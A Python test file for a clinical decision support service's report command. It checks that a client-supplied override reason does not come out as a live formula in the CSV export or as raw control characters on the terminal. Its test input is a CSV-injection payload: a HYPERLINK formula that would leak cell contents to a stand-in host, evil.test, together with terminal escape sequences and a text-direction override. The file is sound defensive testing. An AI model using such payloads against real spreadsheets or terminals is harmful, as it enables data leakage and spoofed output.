"""The report is read by people and spreadsheets: what a client sent (an override reason's
code) must not become a formula in the CSV, nor terminal control sequences in the table."""

from __future__ import annotations

import csv
import io
import subprocess
import time
from datetime import UTC, datetime

from tests.conftest import hook_fixture
from tests.processes import CLI, command_env

from .harness import SIGN, serve
from .test_feedback_issuer import written

FEEDBACK = SIGN + "/feedback"
EVIL = '=HYPERLINK("http://evil.test/?leak="&A1)\x1b]0;owned\x07\x1b[2J\u202e'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def overridden(card: str, code: str) -> dict:
    return {"feedback": [{"card": card, "outcome": "overridden",
                          "overrideReason": {"reason": {"system": "urn:evil", "code": code}},
                          "outcomeTimestamp": datetime.now(UTC).isoformat()}]}


def report(folder, *args: str) -> str:
    done = subprocess.run([*CLI, "report", *args, "--store-url",
                           f"sqlite:///{folder / 'moldx-cds.sqlite'}"], capture_output=True,
                          text=True, env=command_env(), timeout=60)
    assert done.returncode == 0, done.stderr
    return done.stdout


def test_a_clients_text_is_no_formula_in_the_csv_and_no_control_sequence_on_the_terminal(
        tmp_path):
    with serve(tmp_path) as service:
        cards = []
        for code in (EVIL, "+1", "-1", "@SUM(A1)"):
            body = hook_fixture("zcode-from-cpt")
            body["hookInstance"] = f"00000000-0000-4000-8000-{len(cards):012x}"
            cards.append(service.post(body).json()["cards"][0]["uuid"])
            for _ in range(100):
                if written(tmp_path, cards[-1]):
                    break
                time.sleep(0.1)
            assert service.post(overridden(cards[-1], code), FEEDBACK,
                                token=service.token(FEEDBACK)).status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(report(tmp_path, "--csv")))
             for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)  # the reason is there...
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], cells  # ...inert
    table = report(tmp_path)
    assert "HYPERLINK" in table
    assert not [c for c in table if c != "\n" and not c.isprintable()], ascii(table)
